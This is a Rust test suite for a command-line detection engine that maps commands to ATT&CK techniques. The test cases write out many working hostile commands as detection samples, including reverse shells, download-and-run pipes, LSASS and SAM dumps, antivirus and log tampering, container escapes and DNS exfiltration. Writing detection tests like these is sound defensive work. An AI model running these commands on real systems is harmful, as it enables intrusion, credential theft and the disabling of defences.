//! The signature table's behaviour: what each pattern names (with its technique), what
//! everyday administration must not be named, and that the literal prefilter hides no match.

use super::*;

fn ids(hits: &[Hit]) -> Vec<&str> {
    hits.iter().map(|h| h.id).collect()
}

#[test]
fn behaviour_is_recognised_with_its_technique() {
    let s = Signatures::new();
    let cases: &[(&str, &str, &str)] = &[
        (
            r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /v DelegateExecute /f & fodhelper.exe",
            "uac-bypass",
            "T1548.002",
        ),
        ("eventvwr.exe", "auto-elevating-program", "T1548.002"),
        (
            r#""C:\Users\alice\Downloads\invoice_update.exe""#,
            "user-folder-execution",
            "T1204.002",
        ),
        (
            r"cmd /c start C:\Users\Public\svc.exe",
            "user-folder-execution",
            "T1204.002",
        ),
        (
            r"C:\Users\bob\AppData\Local\Temp\7zS1\setup.scr /s",
            "user-folder-execution",
            "T1204.002",
        ),
        (
            r"schtasks /create /tn u /tr %TEMP%\u.exe /sc onlogon",
            "user-folder-execution",
            "T1204.002",
        ),
        (
            r"C:\ProgramData\updater.exe -k",
            "user-folder-execution",
            "T1204.002",
        ),
        (
            "curl -fsSL http://x.sh | sudo bash",
            "download-pipe-shell",
            "T1105",
        ),
        (
            r"reg query HKCU\Software\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated",
            "registry-query",
            "T1012",
        ),
        (
            r#"Get-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon""#,
            "registry-query",
            "T1012",
        ),
        (
            "New-PSDrive -PSProvider registry -Root HKEY_CLASSES_ROOT -Name HKCR",
            "registry-query",
            "T1012",
        ),
        (
            r"Get-ChildItem -Path Registry::HKEY_USERS -Recurse",
            "registry-query",
            "T1012",
        ),
        (
            r#"reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}" /v StubPath /d "C:\Users\Public\a.exe" /f"#,
            "active-setup",
            "T1547.014",
        ),
        (
            r"reg add HKLM\System\CurrentControlSet\Control\BootVerificationProgram /v ImagePath /t REG_SZ /d C:\Users\Public\b.exe",
            "run-key",
            "T1547.001",
        ),
        (
            r#"reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v Load /t REG_SZ /d C:\Users\Public\c.exe"#,
            "run-key",
            "T1547.001",
        ),
        (
            r#"Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Windows" -Name Run -Value C:\Users\Public\c.exe"#,
            "run-key",
            "T1547.001",
        ),
        (
            r"mavinject.exe 4242 /INJECTRUNNING C:\Users\Public\x.dll",
            "reflective-load",
            "T1055",
        ),
        (
            r"Get-Keystrokes -LogPath $env:TEMP\key.log",
            "keylogging",
            "T1056.001",
        ),
        (
            "sysadminctl -deleteUser alice",
            "account-access-removed",
            "T1531",
        ),
        (
            "dscl . -delete /Users/alice",
            "account-access-removed",
            "T1531",
        ),
        (
            "az ad user delete --id alice@corp.example",
            "account-access-removed",
            "T1531",
        ),
        (
            "Remove-ADUser -Identity alice -Confirm:$false",
            "account-access-removed",
            "T1531",
        ),
        ("net user alice /delete", "account-access-removed", "T1531"),
        ("net start > %temp%\\s.txt", "process-discovery", "T1007"),
        (
            "systemctl --type=service --state=running",
            "process-discovery",
            "T1007",
        ),
        (
            r"copy C:\Users\Public\a.exe %TEMP%\invoice.pdf.exe",
            "double-extension",
            "T1036.007",
        ),
        (
            "chmod +x /tmp/report.pdf.sh",
            "double-extension",
            "T1036.007",
        ),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
            "download-execute-powershell",
            "T1059.001",
        ),
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "reverse-shell-devtcp",
            "T1059.004",
        ),
        (
            "php -r '$s=fsockopen(\"192.0.2.7\",443);passthru(\"/bin/sh -i <&3 >&3\");'",
            "reverse-shell-script",
            "T1059",
        ),
        (
            "php -r '$c=fsockopen(\"198.51.100.2\",8080);`sh <&3 >&3 2>&3`;'",
            "reverse-shell-script",
            "T1071",
        ),
        (
            "c,_:=net.Dial(\"tcp\",\"203.0.113.5:53\");cmd:=exec.Command(\"bash\");cmd.Stdin=c",
            "reverse-shell-script",
            "T1059",
        ),
        (
            "rcat connect -s bash 203.0.113.9 4444",
            "reverse-shell-netcat",
            "T1059",
        ),
        ("sudo log erase --all", "linux-logs-wiped", "T1070.002"),
        (
            "sudo srm /var/log/system.log",
            "linux-logs-wiped",
            "T1685.006",
        ),
        (
            "cat /dev/null > /var/mail/alice",
            "mailbox-cleared",
            "T1070.008",
        ),
        (
            "ln -sf /dev/null ~/.bash_history",
            "shell-history-wiped",
            "T1070.003",
        ),
        (
            "Set-PSReadLineOption -AddToHistoryHandler { return $false }",
            "shell-history-wiped",
            "T1690",
        ),
        (
            "msedge.exe --disable-gpu-sandbox --gpu-launcher=\"cmd /c calc.exe &&\"",
            "browser-launches-command",
            "T1218",
        ),
        (
            "regedit /E C:\\Windows\\Temp\\file.ext:regfile.reg HKEY_CURRENT_USER\\Key",
            "hidden-artifact",
            "T1564",
        ),
        (
            "$f = Get-Item $env:temp\\a.txt -Force; $f.attributes='Hidden'",
            "hidden-artifact",
            "T1564",
        ),
        (
            "cdb.exe -pd -pn notepad.exe\n.shell cmd /c calc.exe",
            "trusted-dev-utility",
            "T1127",
        ),
        (
            "rd /s /q %systemdrive%\\$RECYCLE.BIN",
            "indicator-removed",
            "T1070.004",
        ),
        ("sudo lsmod | grep -i vboxguest", "sandbox-evasion", "T1082"),
        (
            "grep -i 'token' ~/.zsh_history > /tmp/t.txt",
            "credentials-in-history",
            "T1552.003",
        ),
        (
            "Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String password",
            "credentials-in-history",
            "T1552.003",
        ),
        (
            "echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sshd",
            "pam-modified",
            "T1556.003",
        ),
        (
            "sudo sed -i 's/^auth.*/auth sufficient pam_rootok.so/' /etc/pam.d/sudo",
            "pam-modified",
            "T1556.003",
        ),
        (
            "assoc .pdf=exefile",
            "file-association-changed",
            "T1546.001",
        ),
        (
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
            "lsass-dump",
            "T1003.001",
        ),
        (
            "reg save HKLM\\SAM C:\\t\\sam",
            "sam-hive-dump",
            "T1003.002",
        ),
        (
            "vssadmin delete shadows /all /quiet",
            "recovery-inhibited",
            "T1490",
        ),
        (
            "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
            "scheduled-task",
            "T1053.005",
        ),
        ("wevtutil cl Security", "log-cleared", "T1070.001"),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "av-disabled",
            "T1685",
        ),
        (
            "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
            "ssh-key-added",
            "T1098.004",
        ),
        ("Set-MpPreference -dioavp 1", "av-disabled", "T1562.001"),
        (
            "mdatp config behavior-monitoring --value disabled",
            "av-disabled",
            "T1685",
        ),
        (
            "dism.exe /online /disable-feature /featurename:Windows-Defender-ApplicationGuard",
            "av-disabled",
            "T1685",
        ),
        ("taskkill /f /im SophosHealth.exe", "av-disabled", "T1685"),
        (
            "sudo iptables -P INPUT ACCEPT",
            "firewall-disabled",
            "T1686",
        ),
        ("ufw logging off", "firewall-disabled", "T1562.004"),
        (
            "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
            "firewall-rule-changed",
            "T1686",
        ),
        (
            "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
            "firewall-rule-changed",
            "T1686",
        ),
        ("sudo iptables -S", "firewall-discovery", "T1518.001"),
        (
            "dd if=/dev/zero of=/var/log/auth.log bs=1k count=64",
            "linux-logs-wiped",
            "T1070.002",
        ),
        (
            "truncate -s 0 /var/lib/docker/containers/abc/abc-json.log",
            "linux-logs-wiped",
            "T1070.002",
        ),
        (
            "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space; sysctl kernel.yama.ptrace_scope=0",
            "exploit-mitigation-disabled",
            "T1562.001",
        ),
        (
            "bcdedit /set {current} nx AlwaysOff",
            "exploit-mitigation-disabled",
            "T1685",
        ),
        (
            "xattr -r -d com.apple.quarantine ~/Downloads/tool.app",
            "gatekeeper-bypass",
            "T1553.001",
        ),
        (
            "aws cloudtrail stop-logging --name management-events",
            "cloud-defences-impaired",
            "T1562.008",
        ),
        (
            "gcloud logging sinks delete audit-sink --quiet",
            "cloud-defences-impaired",
            "T1562.008",
        ),
        (
            "nslookup `whoami | xxd -p`.exfil.example.net",
            "dns-exfiltration",
            "T1048.003",
        ),
        (
            "for c in $(cat secrets | base32); do dig +short $(echo $c).t.example.org; done",
            "dns-exfiltration",
            "T1071.004",
        ),
        (
            "ps -ef | grep -E 'filebeat|wazuh-agent'",
            "security-software-discovery",
            "T1518.001",
        ),
        ("pkill -SIGTERM ^cron$", "service-stopped", "T1489"),
        ("capsh --gid=0 --uid=0 --", "setuid-abuse", "T1548.001"),
        (
            "New-LocalUser -Name svc_backup -NoPassword -AccountNeverExpires",
            "account-without-password",
            "T1136.001",
        ),
        ("sudo passwd -d guest", "account-without-password", "T1098"),
        ("Set-MpPreference -drtm $true", "av-disabled", "T1685"),
        ("ufw --force disable", "firewall-disabled", "T1686"),
        ("sudo iptables -vnL", "firewall-discovery", "T1518.001"),
        (
            "systemctl disable --now auditd",
            "security-service-stopped",
            "T1685",
        ),
        (
            "echo 127.0.0.1 winatp-gw-eus.microsoft.com >> C:\\Windows\\System32\\drivers\\etc\\hosts",
            "security-telemetry-blocked",
            "T1562.001",
        ),
        (
            "aws --region us-east-1 cloudtrail stop-logging --name trail",
            "cloud-defences-impaired",
            "T1562.008",
        ),
        (
            "gcc /tmp/.x.c -o /tmp/.x && /tmp/.x",
            "compile-after-delivery",
            "T1027.004",
        ),
        (
            "cp evil.plist ~/Library/LaunchAgents/com.apple.update.plist",
            "launchd-persistence",
            "T1543.001",
        ),
        (
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start /t REG_DWORD /d 0 /f",
            "logging-disabled",
            "T1562.002",
        ),
        (
            "Set-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Spynet' -Name SubmitSamplesConsent -Value 2",
            "av-disabled",
            "T1685",
        ),
        (
            "sudo systemctl stop systemd-journald",
            "security-service-stopped",
            "T1685",
        ),
        (
            "sudo launchctl bootout system /Library/LaunchDaemons/com.sentinelone.sentineld.plist",
            "security-service-stopped",
            "T1562.001",
        ),
        (
            "echo '*.* /dev/null' >> /etc/rsyslog.d/00-quiet.conf",
            "logging-config-changed",
            "T1562.006",
        ),
        (
            "Add-DnsClientNrptRule -Namespace '.sentinelone.net' -NameServers 0.0.0.0",
            "security-telemetry-blocked",
            "T1685",
        ),
        (
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f",
            "exploit-mitigation-disabled",
            "T1562.001",
        ),
        ("chage -l deploy", "password-policy-discovery", "T1201"),
        (
            "Get-ADDefaultDomainPasswordPolicy",
            "password-policy-discovery",
            "T1201",
        ),
        (
            "Get-WinSystemLocale; Get-WinUserLanguageList",
            "locale-discovery",
            "T1614",
        ),
        (
            "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 111122223333",
            "cloud-compute-modified",
            "T1578",
        ),
        (
            "aws s3 rb s3://backups-prod --force",
            "data-destroyed",
            "T1485",
        ),
        (
            "gcc /tmp/x.c -o /tmp/x; gcc -w k.c && ./a.out",
            "compile-after-delivery",
            "T1027.004",
        ),
        (
            "powershell.exe -v 2 -nop -c \"Get-Process\"",
            "powershell-downgrade",
            "T1562.010",
        ),
        (
            "esentutl.exe /y /vss %SystemRoot%/system32/config/SAM /d %temp%/SAM",
            "sam-hive-dump",
            "T1003.002",
        ),
        ("chmod u+s /bin/bash", "setuid-shell", "T1548.001"),
        (
            "sudo chmod 4755 /usr/bin/python3",
            "setuid-shell",
            "T1548.001",
        ),
        (
            "cp /bin/sh /tmp/.x && chmod +s /tmp/.x && /tmp/.x -p",
            "setuid-shell",
            "T1548.001",
        ),
        (
            "sudo install -m =xs $(which bash) .",
            "setuid-shell",
            "T1548.001",
        ),
        ("dump64.exe 612 out.dmp", "process-dump", "T1003.001"),
        (
            "TTTracer.exe -dumpFull -attach 612",
            "process-dump",
            "T1003.001",
        ),
        (
            "createdump.exe -u -f d.dmp 612",
            "process-dump",
            "T1003.001",
        ),
        (
            "rpcping -s 10.0.0.35 -e 9997 /a connect /u NTLM",
            "forced-authentication",
            "T1187",
        ),
        (
            r"dir \\attacker-host@80\share",
            "forced-authentication",
            "T1187",
        ),
        (
            "aws iam create-access-key --user-name backup-svc",
            "cloud-account-created",
            "T1098.001",
        ),
        (
            "az ad sp create --id 00000000-0000-0000-0000-000000000000",
            "cloud-account-created",
            "T1136.003",
        ),
        (
            "gcloud iam service-accounts keys create key.json --iam-account=svc@p.iam.gserviceaccount.com",
            "cloud-account-created",
            "T1098.001",
        ),
        (
            r"New-WebGlobalModule -Name Mod -Image C:\Windows\Temp\mod.dll",
            "iis-module",
            "T1505.004",
        ),
        (
            r"%windir%\system32\inetsrv\appcmd.exe install module /name:Mod /image:C:\t\m.dll",
            "iis-module",
            "T1505.004",
        ),
        (
            "code.exe tunnel --accept-server-license-terms --name t1",
            "ide-tunnel",
            "T1219.001",
        ),
        (
            "devtunnel host -p 3389 --allow-anonymous",
            "ide-tunnel",
            "T1572",
        ),
        ("driverquery /v /fo list", "driver-discovery", "T1652"),
        ("kextstat", "driver-discovery", "T1652"),
        (
            "w32tm /stripchart /computer:localhost /samples:2",
            "time-discovery",
            "T1124",
        ),
        ("net time \\\\dc01", "time-discovery", "T1124"),
        (
            "docker run -v /:/mnt --rm -it alpine chroot /mnt /bin/sh",
            "container-escape",
            "T1611",
        ),
        (
            "docker run --rm -it --privileged -u root alpine\nmount /dev/sda1 /mnt/\nchroot /mnt /bin/bash",
            "container-escape",
            "T1611",
        ),
        (
            "nsenter -t 1 -m -u -i -n -p -- /bin/bash",
            "container-escape",
            "T1611",
        ),
        (
            r#"kubectl run x --rm -ti --image alpine --overrides '{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/sh"]}]}}'"#,
            "container-escape",
            "T1611",
        ),
        (
            "docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh",
            "host-mounted-in-container",
            "T1611",
        ),
        (
            "tar czpf - /Users/* | openssl des3 -salt -pass x | ssh u@203.0.113.9 'cat > /tmp/u.enc'",
            "exfiltration",
            "T1048",
        ),
        (
            r#"ssh target.example.com "(cd /etc && tar -zcvf - *)" > ./etc.tar.gz"#,
            "exfiltration",
            "T1048",
        ),
        (
            r#"$t = "$env:TEMP\calc" + [char]0x200D + ".exe"; Copy-Item C:\Windows\System32\calc.exe $t; Start-Process $t"#,
            "invisible-characters",
            "T1027.018",
        ),
        (
            r#"$s = "76492d1116743f0423413b16050a5345MgB8AGkASwA0AHMA" | ConvertTo-SecureString -Key $k"#,
            "encrypted-powershell-payload",
            "T1027.013",
        ),
        (
            "$p = Get-Content p.txt | ConvertTo-SecureString -Key (1..16)\n$c = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($p))\niex $c",
            "encrypted-powershell-payload",
            "T1027.013",
        ),
        (
            r#"Resolve-DnsName -type "TXT" "beacon-$(Get-Random).example.net" -QuickTimeout"#,
            "dns-exfiltration",
            "T1048.003",
        ),
        ("gpresult /z", "group-policy-discovery", "T1615"),
        (
            "Get-GPO -Domain corp.example -All >> gpo.txt",
            "group-policy-discovery",
            "T1615",
        ),
    ];
    for (text, id, technique) in cases {
        let hits = s.scan([*text]);
        let hit = hits
            .iter()
            .find(|h| h.id == *id)
            .unwrap_or_else(|| panic!("{id} not in {:?} for {text}", ids(&hits)));
        assert!(hit.attack.contains(technique), "{id}");
        assert!(!hit.evidence.is_empty());
    }
}

#[test]
fn plain_administration_stays_quiet_or_light() {
    let s = Signatures::new();
    for text in [
        "ls -la /home",
        "git commit -m 'fix'",
        "Get-ChildItem C:\\Users",
        "tar -xzf a.tar.gz",
        "docker ps",
        "cat /etc/pam.d/sshd",
        "history | tail -20",
        "log show --last 1h",
        "git log --oneline",
        "chrome --headless --disable-gpu",
        "csc Program.cs",
        "mkdir -p /tmp/build",
        "sudo ufw status verbose",
        "dig example.com MX",
        "host $server",
        "xattr -l report.pdf",
        "sysctl -a | grep randomize_va_space",
        "Get-Service WinDefend",
        "aws cloudtrail describe-trails",
        "pwsh -NoProfile -File build.ps1 -Verbose",
        "systemctl status systemd-journald",
        "grep -v '^#' /etc/rsyslog.conf",
        "cp /etc/rsyslog.conf rsyslog.conf.bak",
        "Get-DnsClientNrptRule",
        "aws ec2 describe-snapshots --owner-ids self",
        "gcc -O2 -o hello hello.c",
        "ls -l ~/Library/LaunchAgents/",
        "passwd",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde"#,
        r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe --processStart",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe",
        r"dir C:\Users\Public\Documents",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ] {
        let hits = s.scan([text]);
        assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
    }
}

#[test]
fn administration_that_looks_alike_is_not_named() {
    // Each text is the everyday form of what a pattern names: reading, backing up,
    // re-enabling, reloading, a script's own arguments.
    let s = Signatures::new();
    let cases: &[(&str, &str)] = &[
        ("chmod u+s /usr/local/bin/backup-tool", "setuid-shell"),
        ("chmod 755 /bin/bash", "setuid-shell"),
        // The mode's own arguments only, not the next command on the line.
        ("chmod u+s tool && bash run.sh", "setuid-shell"),
        ("chmod 4755 tool; cp a /tmp/b", "setuid-shell"),
        ("createdump --help; sleep 5", "process-dump"),
        ("chmod +x ~/bin/deploy.sh", "setuid-shell"),
        (
            "install -m 755 build/app /usr/local/bin/app",
            "setuid-shell",
        ),
        ("aws iam list-users", "cloud-account-created"),
        ("nsenter -t 1234 --mount ls /", "container-escape"),
        // Pasted text carries zero-width characters by accident; only a name built with
        // one counts.
        (
            "find /srv/d\u{200c}\u{200b}ata -name target.txt",
            "invisible-characters",
        ),
        ("[char]0x2000 + 'x'", "invisible-characters"),
        (
            "$c = Get-Credential; $c.Password | ConvertFrom-SecureString | Set-Content p.txt",
            "encrypted-powershell-payload",
        ),
        (
            "Resolve-DnsName -Name www.example.com -Type A",
            "dns-exfiltration",
        ),
        ("gpupdate /force", "group-policy-discovery"),
        ("docker run --privileged -d docker:dind", "container-escape"),
        (
            "docker run -v /srv/data:/data -it alpine sh",
            "host-mounted-in-container",
        ),
        ("docker run -v /:/host:ro node-exporter", "container-escape"),
        (
            "tar czf backup.tgz /etc && ls -l backup.tgz",
            "exfiltration",
        ),
        (
            "az ad user show --id ann@example.com",
            "cloud-account-created",
        ),
        ("code --install-extension ms-python.python", "ide-tunnel"),
        (
            "ssh -L 8080:localhost:80 host # code tunnel docs",
            "process-dump",
        ),
        ("procdump -e 1 -w app.exe", "process-dump"),
        ("Get-WebGlobalModule", "iis-module"),
        ("w32tm /resync", "time-discovery"),
        (r"copy C:\build\config\system.yaml .", "sam-hive-dump"),
        (
            "powershell -File deploy.ps1 -Version 2",
            "powershell-downgrade",
        ),
        (
            "powershell -c \"Set-Variable -Name x -Value 2\"",
            "powershell-downgrade",
        ),
        (
            "Set-MpPreference -DaysToKeepQuarantineItems 1",
            "av-disabled",
        ),
        (
            "Set-Service SentinelAgent -StartupType Automatic",
            "av-disabled",
        ),
        ("taskkill /im notepad.exe & echo sophos done", "av-disabled"),
        ("pfctl -f /etc/pf.conf", "firewall-disabled"),
        (
            "iptables -A INPUT -s 192.0.2.1 -j DROP",
            "firewall-discovery",
        ),
        ("cat /etc/ufw/ufw.conf", "firewall-rule-changed"),
        ("service rsyslog restart", "security-service-stopped"),
        ("service auditd status", "security-service-stopped"),
        (
            "cp -p /etc/audit/auditd.conf /etc/audit/auditd.conf.orig",
            "logging-config-changed",
        ),
        (
            "Add-DnsClientNrptRule -Namespace test.local -NameServers 127.0.0.1",
            "security-telemetry-blocked",
        ),
        (
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /d 1 /f & reg add HKLM\\x /v y /d 0",
            "exploit-mitigation-disabled",
        ),
        (
            "curl -H \"Host: api\" https://$(terraform output -raw lb).example.com/health",
            "dns-exfiltration",
        ),
        (
            "Set-ADDefaultDomainPasswordPolicy -MinPasswordLength 14",
            "password-policy-discovery",
        ),
        (
            "cp /etc/login.defs /etc/login.defs.bak",
            "password-policy-discovery",
        ),
        ("usermod -p \"$HASH\" bob", "account-without-password"),
        (
            "plutil -lint /Library/LaunchDaemons/backup.plist",
            "launchd-persistence",
        ),
        (
            "reg query HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start",
            "logging-disabled",
        ),
        ("kill -HUP $(pgrep nginx)", "service-stopped"),
        (
            "aws s3 rm s3://build-cache/tmp/ --recursive",
            "data-destroyed",
        ),
        ("gcc hello.c && ./a.out", "compile-after-delivery"),
        (
            "grep filebeat docker-compose.yml",
            "security-software-discovery",
        ),
        (
            r#"Get-ItemProperty "C:\Program Files\App\app.exe" | Select-Object VersionInfo"#,
            "registry-query",
        ),
        ("Get-ChildItem HKLM_backup.txt", "registry-query"),
        (
            r"reg query HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components /s",
            "run-key",
        ),
        (
            r"Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows Defender' -Name ProductStatus",
            "run-key",
        ),
        ("mavinject.exe /?", "reflective-load"),
        ("net start w32time", "process-discovery"),
        (
            "tar -czf backup.tar.gz report.pdf notes.txt",
            "double-extension",
        ),
        ("net user alice /domain", "account-access-removed"),
    ];
    for (text, id) in cases {
        let hits = s.scan([*text]);
        assert!(!ids(&hits).contains(id), "{id} named for {text}");
    }
}

#[test]
fn listing_the_firewall_is_not_switching_it_off() {
    let s = Signatures::new();
    for text in [
        "sudo iptables -L -n",
        "iptables-save > rules.v4",
        "ufw status numbered",
    ] {
        let hits = s.scan([text]);
        let found = ids(&hits);
        assert!(found.contains(&"firewall-discovery"), "{text}: {found:?}");
        assert!(!found.contains(&"firewall-disabled"), "{text}: {found:?}");
        assert!(
            !found.contains(&"firewall-rule-changed"),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn a_remote_path_is_not_a_hidden_stream() {
    let s = Signatures::new();
    for text in [
        "scp report.txt alice@files.example.com:backup/report.txt",
        "curl http://files.example.com:8080/a.txt",
        "Copy-Item C:\\data\\a.txt D:\\backup\\a.txt",
        // A program's own `-switch:value.dll` is no stream.
        r"C:\Windows\system32\CompatTelRunner.exe -m:appraiser.dll -f:UpdateAvStatus",
    ] {
        let hits = s.scan([text]);
        assert!(!ids(&hits).contains(&"hidden-artifact"), "{text}");
    }
    let hits = s.scan([r"type evil.exe > C:\temp:evil.exe"]);
    assert!(ids(&hits).contains(&"hidden-artifact"));
}

#[test]
fn an_auto_elevating_program_alone_is_not_a_bypass() {
    let s = Signatures::new();
    for text in [
        "eventvwr.exe",
        "C:\\Windows\\system32\\sdclt.exe /configure",
    ] {
        let hits = s.scan([text]);
        assert!(!ids(&hits).contains(&"uac-bypass"), "{text}");
        assert!(combined_weight(&hits) < 0.5, "{text}: {:?}", ids(&hits));
    }
}

#[test]
fn a_console_host_runs_what_it_is_given_not_its_window_handle() {
    let s = Signatures::new();
    // What Windows logs for every console window.
    let hits = s.scan([r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"]);
    assert!(!ids(&hits).contains(&"indirect-execution"));
    for text in ["conhost.exe calc.exe", "conhost --headless cmd /c whoami"] {
        assert!(
            ids(&s.scan([text])).contains(&"indirect-execution"),
            "{text}"
        );
    }
}

#[test]
fn a_browser_started_with_its_own_profile_is_not_reading_it() {
    let s = Signatures::new();
    // What Windows logs each time Edge starts its crash handler: the profile's folder as an
    // argument of the browser itself.
    let own = r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=crashpad-handler "--user-data-dir=C:\Users\ann\AppData\Local\Microsoft\Edge\User Data" /prefetch:7"#;
    assert!(!ids(&s.scan([own])).contains(&"browser-discovery"));
    // Reading what is in a profile is.
    for text in [
        r#"esentutl.exe /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" /d "%temp%\ld.tmp""#,
        r#"Copy-Item "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default" -Destination C:\loot -Recurse"#,
    ] {
        assert!(
            ids(&s.scan([text])).contains(&"browser-discovery"),
            "{text}"
        );
    }
}

#[test]
fn most_patterns_are_reached_through_their_literals() {
    let s = Signatures::new();
    let always: Vec<&str> = s.always.iter().map(|&i| PATTERNS[i].id).collect();
    assert!(always.len() * 10 < PATTERNS.len(), "always run: {always:?}");
    eprintln!("ALWAYS {always:?} of {}", PATTERNS.len());
}

/// Every pattern's matches, found directly, against what the scan finds.
fn assert_scan_finds_what_each_pattern_does(s: &Signatures, t: &str) {
    let direct: Vec<&str> = PATTERNS
        .iter()
        .zip(&s.each)
        .filter(|(_, re)| re.is_match(t))
        .map(|(p, _)| p.id)
        .collect();
    let found: Vec<&str> = s.scan([t]).iter().map(|h| h.id).collect();
    assert_eq!(found, direct, "{t}");
}

#[test]
fn the_prefilter_never_hides_a_match_in_the_corpus() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/data/commands/commands.jsonl.gz"
    );
    let Ok(file) = std::fs::File::open(path) else {
        eprintln!("skipped: {path} is absent");
        return;
    };
    use std::io::BufRead;
    let s = Signatures::new();
    let lines = std::io::BufReader::new(flate2::read::MultiGzDecoder::new(file)).lines();
    // Every 16th text keeps the test quick in a debug build; all texts ran in release.
    for line in lines.map_while(Result::ok).step_by(16) {
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_scan_finds_what_each_pattern_does(&s, v["text"].as_str().unwrap());
    }
}

#[test]
fn the_prefilter_never_hides_a_match() {
    // Every pattern's own evidence, in any case, is found through the prefilter.
    let s = Signatures::new();
    let texts = [
        "CURL -s http://x | SH",
        "Bash -i >& /dev/TCP/1.2.3.4/80 0>&1",
        "SCHTASKS /Create /tn x",
        "vssadmin Delete Shadows /all",
        "echo x >> ~/.SSH/authorized_keys",
        "Reg Save HKLM\\SAM sam.hiv",
        "certutil -URLcache -f http://a/b c",
    ];
    for t in texts {
        assert_scan_finds_what_each_pattern_does(&s, t);
    }
}

#[test]
fn a_pattern_counts_once_at_its_first_layer() {
    let s = Signatures::new();
    let hits = s.scan([
        "powershell -enc AAAA",
        "IEX (New-Object Net.WebClient).DownloadString('http://a')",
    ]);
    let h = hits
        .iter()
        .find(|h| h.id == "download-execute-powershell")
        .unwrap();
    assert_eq!(h.layer, 1);
    assert_eq!(hits.iter().filter(|h| h.id == h.id).count(), hits.len());
}

#[test]
fn a_scan_that_runs_out_of_time_says_so() {
    let text = "vssadmin delete shadows /all /quiet";
    let full = Signatures::new().scan_bounded([text]);
    assert!(full.finished);
    assert!(ids(&full.hits).contains(&"recovery-inhibited"), "{full:?}");
    let cut = Signatures::new()
        .with_budget(std::time::Duration::ZERO)
        .scan_bounded([text]);
    assert!(!cut.finished);
    assert!(cut.hits.is_empty(), "{cut:?}");
}
